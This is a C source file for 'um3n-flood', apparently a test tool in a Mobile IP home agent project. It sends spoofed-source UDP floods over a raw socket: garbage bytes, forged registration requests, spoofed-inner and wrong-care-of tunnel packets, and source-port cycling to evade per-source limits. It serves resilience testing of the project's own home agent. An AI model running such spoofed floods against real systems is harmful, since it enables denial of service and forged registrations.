/* um3n-flood: an attacker's packet generator for emu/flood.sh (issue 13). It
 * sends UDP datagrams at a home agent from any source ip:port (a raw socket,
 * as an on-path attacker or a host without egress filtering can), paced by a
 * token bucket and batched with sendmmsg, and prints what it sent as JSON.
 *
 *   um3n-flood --to IP:PORT --src IP:PORT --kind KIND [--rate PPS] [--seconds S]
 *              [--src-ports N] [--home IP] [--inner-src IP] [--inner-dst IP]
 *
 * Kinds: garbage (random bytes, 1..200 of them), forged (well-formed RFC 5944
 * registration requests for --home with a random authenticator), spoof-inner
 * (tunnel data from --src, meant to be the MN's own care-of ip:port, whose
 * inner source is --inner-src, not the MN's), wrong-coa (tunnel data with the
 * MN's home address inside, from a care-of ip:port with no binding), mixed
 * (the four in turn). --src-ports N cycles the source port over N values from
 * --src's (a flood that a per-source limit cannot hold to one bucket).
 * --rate 0: as fast as the socket takes them (the highest rate). The packets
 * come from the core's own encoders, so they are what the HA expects, but for
 * what is wrong on purpose. Needs CAP_NET_RAW. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "tunnel.h"
#include "wire.h"

#define BATCH 64
#define PKT_MAX 512
#define IP_UDP_HDR 28

enum kind { K_GARBAGE, K_FORGED, K_SPOOF_INNER, K_WRONG_COA, K_MIXED, K_COUNT };
static const char *const kind_names[K_COUNT] = {"garbage", "forged", "spoof-inner", "wrong-coa",
						"mixed"};

struct opts {
	struct sockaddr_in to, src;
	enum kind kind;
	double rate_pps, seconds;
	unsigned src_ports;
	uint32_t home, inner_src, inner_dst; /* host order */
};

static uint64_t rng_state;

static uint64_t rnd(void)
{
	uint64_t z = (rng_state += 0x9e3779b97f4a7c15ull);

	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ull;
	z = (z ^ (z >> 27)) * 0x94d049bb133111ebull;
	return z ^ (z >> 31);
}

static double now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static int usage(const char *why)
{
	fprintf(stderr,
		"um3n-flood: %s\nusage: um3n-flood --to IP:PORT --src IP:PORT --kind "
		"garbage|forged|spoof-inner|wrong-coa|mixed [--rate PPS (0: max)] [--seconds S]\n"
		"       [--src-ports N] [--home IP] [--inner-src IP] [--inner-dst IP]\n",
		why);
	return 2;
}

static int parse_ipport(const char *s, struct sockaddr_in *a)
{
	char ip[64];
	const char *colon = strrchr(s, ':');
	char *end;
	long port;

	if (!colon || (size_t)(colon - s) >= sizeof(ip))
		return -1;
	memcpy(ip, s, (size_t)(colon - s));
	ip[colon - s] = 0;
	port = strtol(colon + 1, &end, 10);
	memset(a, 0, sizeof(*a));
	a->sin_family = AF_INET;
	a->sin_port = htons((uint16_t)port);
	if (*end || port < 1 || port > 65535 || inet_pton(AF_INET, ip, &a->sin_addr) != 1)
		return -1;
	return 0;
}

static int parse_ip(const char *s, uint32_t *host)
{
	struct in_addr a;

	if (inet_pton(AF_INET, s, &a) != 1)
		return -1;
	*host = ntohl(a.s_addr);
	return 0;
}

static int parse_args(int argc, char **argv, struct opts *o)
{
	memset(o, 0, sizeof(*o));
	o->kind = K_COUNT;
	o->rate_pps = 50000;
	o->seconds = 5;
	o->src_ports = 1;
	parse_ip("10.200.0.2", &o->home);
	parse_ip("10.200.0.99", &o->inner_src);
	parse_ip("10.9.1.1", &o->inner_dst);
	for (int i = 1; i < argc; i++) {
		const char *k = argv[i], *v = i + 1 < argc ? argv[i + 1] : NULL;
		char *end = NULL;
		int bad = !v;

		if (bad)
			return usage("an option without its value");
		i++;
		if (!strcmp(k, "--to"))
			bad = parse_ipport(v, &o->to);
		else if (!strcmp(k, "--src"))
			bad = parse_ipport(v, &o->src);
		else if (!strcmp(k, "--home"))
			bad = parse_ip(v, &o->home);
		else if (!strcmp(k, "--inner-src"))
			bad = parse_ip(v, &o->inner_src);
		else if (!strcmp(k, "--inner-dst"))
			bad = parse_ip(v, &o->inner_dst);
		else if (!strcmp(k, "--rate"))
			o->rate_pps = strtod(v, &end), bad = *end || o->rate_pps < 0;
		else if (!strcmp(k, "--seconds"))
			o->seconds = strtod(v, &end), bad = *end || o->seconds <= 0;
		else if (!strcmp(k, "--src-ports"))
			o->src_ports = (unsigned)strtoul(v, &end, 10),
			bad = *end || o->src_ports < 1 || o->src_ports > 65535;
		else if (!strcmp(k, "--kind")) {
			bad = 1;
			for (int j = 0; j < K_COUNT; j++)
				if (!strcmp(v, kind_names[j]))
					o->kind = (enum kind)j, bad = 0;
		} else
			return usage("unknown option");
		if (bad)
			return usage("bad value");
	}
	if (!o->to.sin_port || !o->src.sin_port || o->kind == K_COUNT)
		return usage("--to, --src and --kind are required");
	return 0;
}

/* A UDP-in-IPv4 packet for 10.9.1.1 from `src`, 64 bytes of payload. */
static size_t inner_packet(uint8_t *b, uint32_t src, uint32_t dst)
{
	memset(b, 0, 92);
	b[0] = 0x45;
	um3n_put16(b + 2, 92);
	b[8] = 64;
	b[9] = 17;
	um3n_put32(b + 12, src);
	um3n_put32(b + 16, dst);
	um3n_put16(b + 10, um3n_wire_inet_csum(b, 20));
	um3n_put16(b + 20, 7);
	um3n_put16(b + 22, 9);
	um3n_put16(b + 24, 72);
	return 92;
}

/* The UDP payload of one attack packet; its length. */
static size_t payload(const struct opts *o, enum kind k, uint64_t n, uint8_t *p)
{
	uint8_t inner[128];
	struct um3n_rrq rrq = {0};
	size_t len, auth_off, i;
	int rc;

	switch (k) {
	case K_GARBAGE:
		len = 1 + rnd() % 200;
		for (i = 0; i < len; i += 8) {
			uint64_t r = rnd();

			memcpy(p + i, &r, len - i < 8 ? len - i : 8);
		}
		return len;
	case K_FORGED:
		rrq.flags = UM3N_RRQ_FLAG_S | UM3N_RRQ_FLAG_D | UM3N_RRQ_FLAG_T;
		rrq.lifetime_s = 300;
		rrq.home_addr = o->home;
		rrq.ha_addr = ntohl(o->to.sin_addr.s_addr);
		rrq.coa = ntohl(o->src.sin_addr.s_addr);
		rrq.ident = rnd();
		rrq.has_udp_tun_req = true;
		rrq.encap = UM3N_ENCAP_GRE;
		rrq.spi = 256;
		if (um3n_wire_rrq_encode(&rrq, p, PKT_MAX - IP_UDP_HDR, &len, &auth_off))
			return 0;
		for (i = auth_off; i + 8 <= auth_off + 32; i += 8) {
			uint64_t r = rnd();

			memcpy(p + i, &r, 8);
		}
		return len;
	case K_SPOOF_INNER:
	case K_WRONG_COA:
		rc = um3n_tunnel_encap(p, PKT_MAX - IP_UDP_HDR, inner,
				       inner_packet(inner, k == K_SPOOF_INNER ? o->inner_src : o->home,
						    o->inner_dst),
				       false, (uint32_t)(n & 0x1fffffffu));
		return rc > 0 ? (size_t)rc : 0;
	default: return 0;
	}
}

/* IPv4 + UDP header (checksum 0: allowed over IPv4) in front of `len` bytes. */
static size_t frame(const struct opts *o, uint16_t sport, uint8_t *pkt, size_t len)
{
	memset(pkt, 0, IP_UDP_HDR);
	pkt[0] = 0x45;
	um3n_put16(pkt + 2, (uint16_t)(IP_UDP_HDR + len));
	pkt[8] = 64;
	pkt[9] = IPPROTO_UDP;
	memcpy(pkt + 12, &o->src.sin_addr, 4);
	memcpy(pkt + 16, &o->to.sin_addr, 4);
	um3n_put16(pkt + 20, sport);
	memcpy(pkt + 22, &o->to.sin_port, 2);
	um3n_put16(pkt + 24, (uint16_t)(8 + len));
	return IP_UDP_HDR + len;
}

int main(int argc, char **argv)
{
	static uint8_t bufs[BATCH][PKT_MAX];
	struct mmsghdr msgs[BATCH];
	struct iovec iov[BATCH];
	struct opts o;
	uint64_t sent = 0, errors = 0, by_kind[K_MIXED] = {0};
	double t0, t, elapsed;
	int fd, rc = parse_args(argc, argv, &o);

	if (rc)
		return rc;
	if (getrandom(&rng_state, sizeof(rng_state), 0) != sizeof(rng_state))
		rng_state = (uint64_t)getpid();
	fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW); /* IP_HDRINCL: we write the source */
	if (fd < 0) {
		fprintf(stderr, "um3n-flood: raw socket: %s\n", strerror(errno));
		return 1;
	}
	memset(msgs, 0, sizeof(msgs));
	t0 = now_s();
	for (;;) {
		unsigned n = BATCH, got;

		t = now_s();
		elapsed = t - t0;
		if (elapsed >= o.seconds)
			break;
		if (o.rate_pps > 0) {
			double due = o.rate_pps * elapsed - (double)sent;

			if (due < 1) {
				struct timespec ts = {0, (long)(1e9 * (1 - due) / o.rate_pps)};

				nanosleep(&ts, NULL);
				continue;
			}
			if (due < n)
				n = (unsigned)due;
		}
		for (unsigned i = 0; i < n; i++) {
			uint64_t seq = sent + i;
			enum kind k = o.kind == K_MIXED ? (enum kind)(seq % K_MIXED) : o.kind;
			size_t len = payload(&o, k, seq, bufs[i] + IP_UDP_HDR);
			uint16_t sport = (uint16_t)(ntohs(o.src.sin_port) + seq % o.src_ports);

			if (k == K_WRONG_COA && o.kind == K_MIXED)
				sport = (uint16_t)(sport + 1); /* never the MN's own care-of port */
			iov[i].iov_base = bufs[i];
			iov[i].iov_len = frame(&o, sport, bufs[i], len);
			msgs[i].msg_hdr.msg_iov = &iov[i];
			msgs[i].msg_hdr.msg_iovlen = 1;
			msgs[i].msg_hdr.msg_name = &o.to;
			msgs[i].msg_hdr.msg_namelen = sizeof(o.to);
		}
		for (got = 0; got < n;) {
			int r = sendmmsg(fd, msgs + got, n - got, 0);

			if (r < 0) {
				if (errno != ENOBUFS && errno != EAGAIN && errno != EPERM) {
					fprintf(stderr, "um3n-flood: sendmmsg: %s\n", strerror(errno));
					return 1;
				}
				errors++; /* counted as not sent: the packet is skipped */
				msgs[got].msg_len = 0;
				got++;
				continue;
			}
			for (int j = 0; j < r; j++) {
				uint64_t seq = sent + got + (unsigned)j;

				by_kind[o.kind == K_MIXED ? seq % K_MIXED : o.kind]++;
			}
			got += (unsigned)r;
		}
		sent += n; /* the schedule moves on even for a skipped packet */
	}
	elapsed = now_s() - t0;
	{
		uint64_t ok = by_kind[0] + by_kind[1] + by_kind[2] + by_kind[3];

		printf("{\"kind\":\"%s\",\"sent\":%llu,\"send_errors\":%llu,\"seconds\":%.3f,"
		       "\"rate_pps\":%.0f,\"garbage\":%llu,\"forged\":%llu,\"spoof_inner\":%llu,"
		       "\"wrong_coa\":%llu}\n",
		       kind_names[o.kind], (unsigned long long)ok, (unsigned long long)errors,
		       elapsed, (double)ok / elapsed, (unsigned long long)by_kind[0],
		       (unsigned long long)by_kind[1], (unsigned long long)by_kind[2],
		       (unsigned long long)by_kind[3]);
	}
	close(fd);
	return 0;
}
